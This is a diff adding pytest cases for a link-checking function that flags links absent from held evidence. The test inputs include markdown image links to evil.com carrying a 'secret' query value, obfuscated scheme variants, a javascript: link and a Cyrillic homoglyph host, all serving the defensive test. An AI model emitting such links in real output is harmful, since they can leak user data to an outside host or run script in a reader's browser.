@@ -60,3 +60,33 @@ def test_a_link_the_evidence_holds_is_not_missing() -> None:
     assert links_not_in("See https://indiacode.nic.in/ipc?x=1.", evidence) == [
         "https://indiacode.nic.in/ipc?x=1"
     ]
+
+
+@pytest.mark.parametrize(
+    "link",
+    [
+        "![x](//evil.com/p.png?q=secret)",  # no scheme
+        "![x](https:/evil.com/p.png)",  # one slash
+        "https:\\\\evil.com\\p.png",  # backslashes
+        "[click](javascript:alert(1))",
+        "![x](https://h.com/p_(a)?q=secret)",  # balanced parentheses stay in the link
+        "https://example.com/d",  # a prefix of a held link is another link
+        "https://exаmple.com/docs/ipc302",  # a Cyrillic а: another host
+    ],
+)
+def test_forms_a_browser_follows_are_links_compared_whole(link: str) -> None:
+    """Found by a review: these slipped past a scheme-only, substring comparison."""
+    evidence = ["Held: https://example.com/docs/ipc302 and https://h.com/p_(a)."]
+    assert links_not_in(f"See {link} here.", evidence) != []
+
+
+@pytest.mark.parametrize(
+    "same",
+    [
+        "https://www.example.com/docs/ipc302/",
+        "http://example.com/docs/ipc302",
+        "WWW.EXAMPLE.COM/docs/ipc302",
+    ],
+)
+def test_scheme_www_and_a_final_slash_do_not_make_another_link(same: str) -> None:
+    assert links_not_in(same, ["See example.com at https://example.com/docs/ipc302."]) == []
